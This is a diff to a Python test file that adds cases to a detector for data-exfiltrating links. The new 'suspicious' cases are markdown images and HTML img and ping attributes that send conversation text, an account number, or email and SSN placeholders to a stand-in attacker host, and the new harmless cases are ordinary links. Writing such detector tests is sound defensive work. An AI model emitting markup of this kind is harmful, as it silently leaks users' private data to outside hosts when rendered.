@@ -141,6 +141,10 @@ def test_servers_that_are_no_pages_deceive_nobody(text: str) -> None:
         (f"![x]({EVIL}?q=[CONVERSATION])", "link/exfiltration"),
         (f"{EVIL}?api_key=abcd1234", "link/exfiltration"),
         (f"![x]({EVIL}#{encoded('hidden in a fragment')})", "link/exfiltration"),
+        ("![x](//evil.example/?q=my%20account%20number%20is%2012345)", "link/exfiltration"),
+        (f"<a href='{A}' ping='{EVIL}?q=my%20account%20number%20is%2012345'>x</a>", "link/exfiltration"),
+        (f"![x]({EVIL}?m=[EMAIL_1f0c22ab])", "link/exfiltration"),
+        (f"<img src='{EVIL}?m=%5BUS_SSN_1f0c22ab%5D'>", "link/exfiltration"),
     ],
 )
 def test_suspicious(text: str, category: str) -> None:
@@ -159,6 +163,8 @@ def test_suspicious(text: str, category: str) -> None:
         f"https://a.example/f?X-Amz-Signature={'5f' * 32}",
         "https://a.example/watch?v=aB3dE6gH9kL",
         "https://a.example/@user/post, https://a.example/?to=b@c.example",
+        "[your page](https://a.example/account?m=[EMAIL_1f0c22ab])",  # who clicks, sees where it goes
+        f"![x]({B}?size=[large_1f0c22ab])",
     ],
 )
 def test_unsuspicious(text: str) -> None:
